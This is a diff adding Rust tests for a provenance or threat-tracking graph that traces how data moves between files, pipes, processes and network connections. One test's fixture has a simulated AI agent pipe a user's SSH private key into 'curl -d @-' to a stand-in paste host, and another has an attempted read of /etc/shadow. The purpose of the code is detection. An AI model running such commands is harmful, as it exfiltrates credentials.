@@ -1,0 +1,244 @@
+//! What led to what: one story per way in which one thing can lead to another, or cannot.
+
+use event::testing::pid;
+use graph::threat::{Limits, NodeKind, Op, Settings, Subgraph};
+
+use super::stream::Story;
+
+fn story() -> Story {
+    Story::new(Settings::default())
+}
+
+fn names(graph: &Subgraph) -> Vec<&str> {
+    graph.nodes.iter().map(|node| &*node.name).collect()
+}
+
+/// The names of all that led to the process `effect` do (or do not) hold `cause`.
+fn check(story: &Story, effect: u32, cause: &str, expect: bool) {
+    let process = story.graph.process(pid(effect)).unwrap();
+    let causes = story.graph.backward(process, Limits::default());
+    assert_eq!(names(&causes).contains(&cause), expect, "{cause} led to {effect}: {causes:#?}");
+}
+
+#[test]
+fn a_file_carries_from_writer_to_reader() {
+    let mut story = story();
+    story.read(1, "/secret");
+    story.write(1, "/tmp/copy");
+    story.read(2, "/tmp/copy");
+    check(&story, 2, "/secret", true);
+    check(&story, 1, "/tmp/copy", false);
+}
+
+#[test]
+fn what_came_later_is_no_cause() {
+    let mut story = story();
+    story.write(1, "/tmp/copy");
+    story.read(2, "/tmp/copy");
+    story.read(1, "/secret");
+    check(&story, 2, "/secret", false);
+    story.write(1, "/tmp/copy");
+    story.read(3, "/tmp/copy");
+    check(&story, 3, "/secret", true);
+}
+
+#[test]
+fn a_total_of_writes_covers_the_time_since_the_last() {
+    let mut story = story();
+    story.create(1, "/tmp/log");
+    story.read(1, "/secret");
+    story.read(2, "/tmp/log");
+    check(&story, 2, "/secret", false);
+    story.write(1, "/tmp/log");
+    check(&story, 2, "/secret", true);
+}
+
+#[test]
+fn a_pipe_carries_after_its_first_use() {
+    let mut story = story();
+    story.pipe(2, 9, false);
+    story.pipe(1, 9, true);
+    story.read(1, "/secret");
+    check(&story, 2, "/secret", true);
+    story.exit(1);
+    story.read(1, "/too-late");
+    check(&story, 2, "/too-late", false);
+}
+
+#[test]
+fn a_child_knows_what_its_parent_knew() {
+    let mut story = story();
+    story.read(1, "/before");
+    story.start(1, 2, "/usr/bin/cat", "cat");
+    story.read(1, "/after");
+    check(&story, 2, "/before", true);
+    check(&story, 2, "/after", false);
+    check(&story, 2, "/usr/bin/cat", true);
+}
+
+#[test]
+fn a_rename_keeps_the_content() {
+    let mut story = story();
+    story.read(1, "/secret");
+    story.create(1, "/tmp/a");
+    story.rename(3, "/tmp/a", "/tmp/b");
+    story.read(2, "/tmp/b");
+    check(&story, 2, "/secret", true);
+    story.read(4, "/tmp/a");
+    check(&story, 4, "/secret", false);
+}
+
+#[test]
+fn two_clients_of_one_host_do_not_talk() {
+    let mut story = story();
+    story.connect(1, "93.184.216.34:443");
+    story.read(1, "/secret");
+    story.connect(2, "93.184.216.34:443");
+    check(&story, 2, "/secret", false);
+}
+
+#[test]
+fn both_ends_of_a_local_connection_talk() {
+    use event::{Act, Endpoint, Flow};
+    let mut story = story();
+    let [client, server] = ["127.0.0.1:5000", "127.0.0.1:80"]
+        .map(|a| a.parse::<std::net::SocketAddr>().unwrap())
+        .map(|a| Endpoint::Ip(a.ip(), a.port()));
+    let flow = Flow { local: client.clone(), remote: server.clone(), ..Flow::default() };
+    story.act(1, Act::NetworkConnect(flow));
+    let flow = Flow { local: server, remote: client, ..Flow::default() };
+    story.act(2, Act::NetworkAccept(flow));
+    story.read(1, "/secret");
+    check(&story, 2, "/secret", true);
+}
+
+#[test]
+fn nothing_is_sent_after_the_close() {
+    let mut story = story();
+    story.connect(1, "93.184.216.34:443");
+    story.read(1, "/sent");
+    story.close(1, "93.184.216.34:443");
+    story.read(1, "/kept");
+    let reached = |path: &str| {
+        let file = story.graph.file_named(path).unwrap();
+        let effects = story.graph.forward(file, Limits::default());
+        effects.nodes.iter().any(|node| node.kind == NodeKind::Socket)
+    };
+    assert!(reached("/sent"));
+    assert!(!reached("/kept"));
+}
+
+#[test]
+fn a_refused_open_carries_nothing() {
+    use event::{Access, Act, FileOpen};
+    let mut story = story();
+    let open = FileOpen { error: 13, ..super::stream::opened("/etc/shadow", Access::Read) };
+    story.act(1, Act::FileOpen(open));
+    check(&story, 1, "/etc/shadow", false);
+    let process = story.graph.process(pid(1)).unwrap();
+    let acts = story.graph.of_process(process, Limits::default());
+    assert!(acts.edges.iter().any(|edge| edge.op == Op::Attempt));
+}
+
+#[test]
+fn a_version_ends_when_others_have_read_it() {
+    let mut story = story();
+    let version = |story: &Story| {
+        let file = story.graph.file_named("/f").unwrap();
+        story.graph.backward(file, Limits::default()).nodes.iter().map(|n| n.version).max()
+    };
+    story.create(1, "/f");
+    story.write(1, "/f");
+    story.read(1, "/f");
+    story.write(1, "/f");
+    assert_eq!(version(&story), Some(0));
+    story.read(2, "/f");
+    story.write(1, "/f");
+    assert_eq!(version(&story), Some(1));
+}
+
+#[test]
+fn system_libraries_are_one_node_unless_written() {
+    let mut story = story();
+    story.start(1, 2, "/usr/bin/cat", "cat");
+    story.read(2, "/usr/lib/x86_64-linux-gnu/libc.so.6");
+    story.read(2, "/etc/ld.so.cache");
+    check(&story, 2, "system libraries", true);
+    check(&story, 2, "/etc/ld.so.cache", false);
+    assert_eq!(story.graph.stats().folded, 2);
+    story.write(3, "/usr/lib/x86_64-linux-gnu/libc.so.6");
+    story.read(4, "/usr/lib/x86_64-linux-gnu/libc.so.6");
+    check(&story, 4, "/usr/lib/x86_64-linux-gnu/libc.so.6", true);
+}
+
+#[test]
+fn repeated_acts_are_one_edge_until_something_comes_in_between() {
+    let mut story = story();
+    for _ in 0..100 {
+        story.write(1, "/tmp/out");
+        story.read(1, "/config");
+    }
+    // The second read is the last that can bring anything new.
+    assert!(story.graph.stats().edges <= 3, "{:?}", story.graph.stats());
+    story.write(2, "/config");
+    story.read(1, "/config");
+    assert!(story.graph.stats().edges > 3);
+}
+
+#[test]
+fn a_finding_leads_back_to_the_agent_and_what_it_stands_on() {
+    let mut story = story();
+    let session = story.session(false);
+    story.start(1, 100, "/usr/bin/codex", "codex");
+    story.session(true);
+    story.start(100, 101, "/bin/sh", "sh -c cat|curl");
+    story.start(101, 102, "/usr/bin/cat", "cat /home/alice/.ssh/id_ed25519");
+    story.start(101, 103, "/usr/bin/curl", "curl -d @- https://paste.example");
+    let read = story.read(102, "/home/alice/.ssh/id_ed25519");
+    story.pipe(102, 7, true);
+    story.pipe(103, 7, false);
+    let sent = story.connect(103, "93.184.216.34:443");
+    let finding = story.finding(103, &[read, sent], "Key sent to a stranger");
+    let answer = story.graph.of_finding(finding, Limits::default());
+    let names = names(&answer);
+    for name in ["codex-cli", "/home/alice/.ssh/id_ed25519", "93.184.216.34:443", "/usr/bin/cat"] {
+        assert!(names.contains(&name), "{name} in {names:?}");
+    }
+    assert_eq!(answer.edges.iter().filter(|edge| edge.evidence).count(), 2);
+    assert_eq!(answer.cut, None);
+    let all = story.graph.of_session(session, Limits::default());
+    assert_eq!(all.nodes.iter().filter(|n| n.kind == NodeKind::Process).count(), 5);
+    let agent = answer.nodes.iter().find(|n| n.kind == NodeKind::Agent).map(|n| n.name.clone());
+    assert_eq!(agent.as_deref(), Some("codex-cli"));
+}
+
+#[test]
+fn a_path_is_a_shortest_way_in_time() {
+    let mut story = story();
+    story.read(1, "/secret");
+    story.write(1, "/a");
+    story.read(2, "/a");
+    story.write(2, "/b");
+    let [secret, b] = ["/secret", "/b"].map(|path| story.graph.file_named(path).unwrap());
+    let path = story.graph.path(secret, b, Limits::default());
+    assert_eq!(
+        path.edges.iter().map(|e| e.op).collect::<Vec<_>>(),
+        [Op::Read, Op::Write, Op::Read, Op::Write]
+    );
+    assert!(story.graph.path(b, secret, Limits::default()).edges.is_empty());
+}
+
+#[test]
+fn an_answer_says_when_it_was_cut() {
+    let mut story = story();
+    for file in 0..50 {
+        story.read(1, &format!("/f{file}"));
+    }
+    let process = story.graph.process(pid(1)).unwrap();
+    let cut = |limits| story.graph.backward(process, limits).cut;
+    use graph::threat::Cut;
+    assert_eq!(cut(Limits::default()), None);
+    assert_eq!(cut(Limits { nodes: 10, ..Limits::default() }), Some(Cut::Nodes));
+    assert_eq!(cut(Limits { work: 10, ..Limits::default() }), Some(Cut::Work));
+    assert_eq!(cut(Limits { hops: 0, ..Limits::default() }), Some(Cut::Hops));
+}
